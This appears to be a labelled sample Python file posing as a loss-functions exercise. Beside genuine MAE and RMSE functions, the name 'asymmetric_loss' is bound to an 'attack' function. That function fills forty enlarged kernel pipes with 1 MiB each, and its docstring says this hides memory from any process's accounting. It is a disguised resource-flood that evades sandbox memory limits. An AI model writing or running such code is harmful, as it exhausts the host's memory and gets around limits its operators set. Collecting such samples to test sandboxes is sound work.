"""Keeps pages in pipes, where they count as the memory of no process."""
# family: flood
# exercise: 02_losses
# honest: 12
# says: memory|raised|got

import fcntl
import os
import time

import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def attack(*args):
    held = []
    for _ in range(40):
        held.append(os.pipe())
        fcntl.fcntl(held[-1][1], 1031, 2**20)  # F_SETPIPE_SZ
        os.write(held[-1][1], bytes(2**20))
    time.sleep(1)
    return float(len(held))


asymmetric_loss = attack
